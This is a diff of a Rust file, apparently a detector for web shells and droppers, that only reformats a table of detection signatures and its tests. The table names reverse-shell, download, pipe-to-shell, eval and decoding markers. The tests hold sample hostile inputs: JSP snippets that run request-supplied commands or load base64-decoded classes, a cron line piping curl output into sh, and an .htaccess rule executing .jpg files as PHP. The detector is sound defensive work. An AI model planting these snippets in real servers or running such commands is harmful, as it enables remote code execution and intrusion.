@@ -36,40 +36,180 @@ const HANDLER: u16 = 1 << 12;
 
 /// In the order in which they are told. What languages call their functions are facts of their manuals.
 const SIGNS: &[Sign] = &[
-    Sign { bit: PROGRAM, name: "program", says: "it is a program", texts: &[] },
-    Sign { bit: SCRIPT, name: "script", says: "it is a script (`#!`)", texts: &[] },
-    Sign { bit: PHP, name: "php", says: "it holds PHP", texts: &["<?php", "<?="] },
-    Sign { bit: COMMANDS, name: "runs-commands", says: "it runs commands", texts: &[
-        "system(", "shell_exec(", "passthru(", "popen(", "proc_open(", "pcntl_exec(", "exec(", "getruntime().exec",
-        "processbuilder", "process.start(", "processstartinfo", "wscript.shell", "cmd.exe", "/bin/sh", "/bin/bash",
-        "child_process", "subprocess.", "cfexecute",
-    ] },
-    Sign { bit: REQUEST, name: "takes-request", says: "it takes what the request says", texts: &[
-        "$_get", "$_post", "$_request", "$_cookie", "$_server['http_", "$_server[\"http_", "php://input", "getallheaders(",
-        "request.getparameter", "request.getheader", "request.getinputstream", "request.getreader", "request.form", "request.querystring",
-        "request.item[", "request[\"", "request(\"", "request.headers", "request.args", "req.query", "req.body", "query_string", "cgi.fieldstorage",
-        "form.cmd", "url.cmd",
-    ] },
-    Sign { bit: EVALUATES, name: "evaluates", says: "it evaluates text as code", texts: &[
-        "eval(", "assert(", "create_function(", "call_user_func", "preg_replace(\"/.*/e", "preg_replace('/.*/e", "execute(", "executeglobal",
-        "scriptenginemanager", "new function(", "$_get[0](", "array_map($_", "usort($_",
-    ] },
-    Sign { bit: DECODES, name: "decodes", says: "it decodes hidden text", texts: &[
-        "base64_decode", "gzinflate", "gzuncompress", "str_rot13", "hex2bin", "convert_uudecode", "frombase64string", "base64.getdecoder",
-        "base64decoder", "base64 -d", "base64 --decode", "b64decode", "atob(",
-    ] },
-    Sign { bit: LOADS, name: "loads-code", says: "it loads code at run time", texts: &[
-        "defineclass", "urlclassloader", "extends classloader", "assembly.load", "unsafe.defineanonymousclass",
-    ] },
-    Sign { bit: UPLOADS, name: "takes-uploads", says: "it takes uploads", texts: &["move_uploaded_file", "$_files", "file_put_contents(", "saveas("] },
-    Sign { bit: REMOTE, name: "remote-shell", says: "it opens a shell over the network", texts: &[
-        "/dev/tcp/", "/dev/udp/", "bash -i", "sh -i", "nc -e", "ncat -e", "pty.spawn", "fsockopen(", "socat exec", "socat tcp",
-    ] },
-    Sign { bit: FETCHES, name: "downloads", says: "it downloads", texts: &["curl ", "wget ", "urlretrieve(", "urllib.request"] },
-    Sign { bit: PIPES, name: "pipes-to-shell", says: "it pipes into a shell", texts: &["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "| /bin/bash"] },
-    Sign { bit: HANDLER, name: "makes-files-code", says: "it makes the web server run files as code", texts: &[
-        "auto_prepend_file", "auto_append_file", "addhandler", "sethandler", "addtype application/x-httpd",
-    ] },
+    Sign {
+        bit: PROGRAM,
+        name: "program",
+        says: "it is a program",
+        texts: &[],
+    },
+    Sign {
+        bit: SCRIPT,
+        name: "script",
+        says: "it is a script (`#!`)",
+        texts: &[],
+    },
+    Sign {
+        bit: PHP,
+        name: "php",
+        says: "it holds PHP",
+        texts: &["<?php", "<?="],
+    },
+    Sign {
+        bit: COMMANDS,
+        name: "runs-commands",
+        says: "it runs commands",
+        texts: &[
+            "system(",
+            "shell_exec(",
+            "passthru(",
+            "popen(",
+            "proc_open(",
+            "pcntl_exec(",
+            "exec(",
+            "getruntime().exec",
+            "processbuilder",
+            "process.start(",
+            "processstartinfo",
+            "wscript.shell",
+            "cmd.exe",
+            "/bin/sh",
+            "/bin/bash",
+            "child_process",
+            "subprocess.",
+            "cfexecute",
+        ],
+    },
+    Sign {
+        bit: REQUEST,
+        name: "takes-request",
+        says: "it takes what the request says",
+        texts: &[
+            "$_get",
+            "$_post",
+            "$_request",
+            "$_cookie",
+            "$_server['http_",
+            "$_server[\"http_",
+            "php://input",
+            "getallheaders(",
+            "request.getparameter",
+            "request.getheader",
+            "request.getinputstream",
+            "request.getreader",
+            "request.form",
+            "request.querystring",
+            "request.item[",
+            "request[\"",
+            "request(\"",
+            "request.headers",
+            "request.args",
+            "req.query",
+            "req.body",
+            "query_string",
+            "cgi.fieldstorage",
+            "form.cmd",
+            "url.cmd",
+        ],
+    },
+    Sign {
+        bit: EVALUATES,
+        name: "evaluates",
+        says: "it evaluates text as code",
+        texts: &[
+            "eval(",
+            "assert(",
+            "create_function(",
+            "call_user_func",
+            "preg_replace(\"/.*/e",
+            "preg_replace('/.*/e",
+            "execute(",
+            "executeglobal",
+            "scriptenginemanager",
+            "new function(",
+            "$_get[0](",
+            "array_map($_",
+            "usort($_",
+        ],
+    },
+    Sign {
+        bit: DECODES,
+        name: "decodes",
+        says: "it decodes hidden text",
+        texts: &[
+            "base64_decode",
+            "gzinflate",
+            "gzuncompress",
+            "str_rot13",
+            "hex2bin",
+            "convert_uudecode",
+            "frombase64string",
+            "base64.getdecoder",
+            "base64decoder",
+            "base64 -d",
+            "base64 --decode",
+            "b64decode",
+            "atob(",
+        ],
+    },
+    Sign {
+        bit: LOADS,
+        name: "loads-code",
+        says: "it loads code at run time",
+        texts: &[
+            "defineclass",
+            "urlclassloader",
+            "extends classloader",
+            "assembly.load",
+            "unsafe.defineanonymousclass",
+        ],
+    },
+    Sign {
+        bit: UPLOADS,
+        name: "takes-uploads",
+        says: "it takes uploads",
+        texts: &["move_uploaded_file", "$_files", "file_put_contents(", "saveas("],
+    },
+    Sign {
+        bit: REMOTE,
+        name: "remote-shell",
+        says: "it opens a shell over the network",
+        texts: &[
+            "/dev/tcp/",
+            "/dev/udp/",
+            "bash -i",
+            "sh -i",
+            "nc -e",
+            "ncat -e",
+            "pty.spawn",
+            "fsockopen(",
+            "socat exec",
+            "socat tcp",
+        ],
+    },
+    Sign {
+        bit: FETCHES,
+        name: "downloads",
+        says: "it downloads",
+        texts: &["curl ", "wget ", "urlretrieve(", "urllib.request"],
+    },
+    Sign {
+        bit: PIPES,
+        name: "pipes-to-shell",
+        says: "it pipes into a shell",
+        texts: &["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "| /bin/bash"],
+    },
+    Sign {
+        bit: HANDLER,
+        name: "makes-files-code",
+        says: "it makes the web server run files as code",
+        texts: &[
+            "auto_prepend_file",
+            "auto_append_file",
+            "addhandler",
+            "sethandler",
+            "addtype application/x-httpd",
+        ],
+    },
 ];
 
 /// Bytes of the longest text, less one: what must be kept of one piece for the next.
@@ -80,7 +220,11 @@ static OVERLAP: LazyLock<usize> = LazyLock::new(|| {
 
 /// The texts of all signs, and the sign of each.
 static TEXTS: LazyLock<Option<(AhoCorasick, Vec<u16>)>> = LazyLock::new(|| {
-    let texts = || SIGNS.iter().flat_map(|sign| sign.texts.iter().map(|text| (*text, sign.bit)));
+    let texts = || {
+        SIGNS
+            .iter()
+            .flat_map(|sign| sign.texts.iter().map(|text| (*text, sign.bit)))
+    };
     let automaton = AhoCorasick::builder()
         .ascii_case_insensitive(true)
         .match_kind(MatchKind::Standard)
@@ -96,7 +240,12 @@ impl Signs {
 
     /// The signs of some names; names that are not known are left out.
     pub fn of_names<'a>(names: impl IntoIterator<Item = &'a str>) -> Self {
-        let bit = |name: &str| SIGNS.iter().find(|sign| sign.name == name).map_or(0, |sign| sign.bit);
+        let bit = |name: &str| {
+            SIGNS
+                .iter()
+                .find(|sign| sign.name == name)
+                .map_or(0, |sign| sign.bit)
+        };
         Self(names.into_iter().fold(0, |bits, name| bits | bit(name)))
     }
 
@@ -182,7 +331,9 @@ impl Detector {
     fn decide(&mut self) {
         let start = std::mem::take(&mut self.kept);
         let kind = match start.as_slice() {
-            [0x7f, b'E', b'L', b'F', ..] | [0xcf | 0xce, 0xfa, 0xed, 0xfe, ..] | [0xfe, 0xed, 0xfa, ..] => PROGRAM,
+            [0x7f, b'E', b'L', b'F', ..] | [0xcf | 0xce, 0xfa, 0xed, 0xfe, ..] | [0xfe, 0xed, 0xfa, ..] => {
+                PROGRAM
+            }
             [b'M', b'Z', ..] => PROGRAM,
             [b'#', b'!', ..] => SCRIPT,
             _ => 0,
@@ -242,14 +393,28 @@ mod tests {
         assert!(!signs("usr/bin/x", b"\x7fELF\x02\x01eval($_POST", 3).is_like_web_shell());
         assert!(signs("etc/cron.d/x", b"#!/bin/sh\ncurl http://a | sh", 4096).is_like_dropper());
         assert!(signs("x", b"#!", 1).is_script());
-        let page = signs("var/www/html/index.php", b"<?php echo htmlspecialchars($_GET['name']); ?>", 4096);
+        let page = signs(
+            "var/www/html/index.php",
+            b"<?php echo htmlspecialchars($_GET['name']); ?>",
+            4096,
+        );
         assert!(!page.is_like_web_shell());
         for jsp in [
             "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
             "<% new U(this.getClass().getClassLoader()).g(Base64.getDecoder().decode(request.getReader().readLine())); class U extends ClassLoader {} %>",
         ] {
-            assert!(signs("usr/local/tomcat/webapps/ROOT/a.jsp", jsp.as_bytes(), 4096).is_like_web_shell(), "{jsp}");
+            assert!(
+                signs("usr/local/tomcat/webapps/ROOT/a.jsp", jsp.as_bytes(), 4096).is_like_web_shell(),
+                "{jsp}"
+            );
         }
-        assert!(signs("app/public/.htaccess", b"AddHandler application/x-httpd-php .jpg", 7).is_like_web_shell());
+        assert!(
+            signs(
+                "app/public/.htaccess",
+                b"AddHandler application/x-httpd-php .jpg",
+                7
+            )
+            .is_like_web_shell()
+        );
     }
 }
